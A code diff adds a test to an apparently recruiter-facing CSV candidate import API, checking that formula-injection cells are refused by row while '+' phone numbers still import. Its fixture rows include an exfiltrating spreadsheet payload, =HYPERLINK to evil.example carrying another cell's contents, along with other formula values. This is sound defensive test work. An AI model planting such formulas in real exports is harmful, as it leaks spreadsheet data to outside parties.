@@ -88,6 +88,34 @@ describe('POST /api/v1/jobs/{slug}/candidates/import', () => {
     expect(await countCandidates(job.id)).toBe(0);
   });
 
+  it('refuses formula cells (CSV injection) with their row and column; + phone numbers are imported', async () => {
+    const auth = await recruiterToken();
+    const job = await createJobVia(auth);
+    const csv = [
+      HEADER,
+      'Ann,One,ann@example.test,+44 20 7946 0000,',
+      '=HYPERLINK("http://evil.example/?x="&C3),Two,bob@example.test,,',
+      'Cy,@SUM(1),cy@example.test,,',
+      'Dee,Four,dee@example.test,-1+2,',
+      '"\tEve",Five,eve@example.test,,',
+    ].join('\r\n');
+    const refused = await importCsv(auth, job.slug, { csv });
+    expectError(refused, 422, 'validation_failed');
+    expect(refused.body.error.details).toEqual([
+      { row: 3, message: expect.stringMatching(/^first_name: must not start with =, \+, -, @/) },
+      { row: 4, message: expect.stringMatching(/^last_name: /) },
+      { row: 5, message: expect.stringMatching(/^phone: /) },
+      { row: 6, message: expect.stringMatching(/^first_name: /) },
+    ]);
+    expect(await countCandidates(job.id)).toBe(0);
+
+    const skipped = await importCsv(auth, job.slug, { csv, skip_invalid: true });
+    expect(skipped.status).toBe(201);
+    expect(skipped.body).toMatchObject({ created: 1 });
+    const list = await callRoute(api.jobCandidates.GET, { auth, params: { slug: job.slug }, path: '/x' });
+    expect(list.body.data.map((c: { phone: string }) => c.phone)).toEqual(['+44 20 7946 0000']);
+  });
+
   it('validates the request body and the posting', async () => {
     const auth = await recruiterToken();
     const job = await createJobVia(auth);
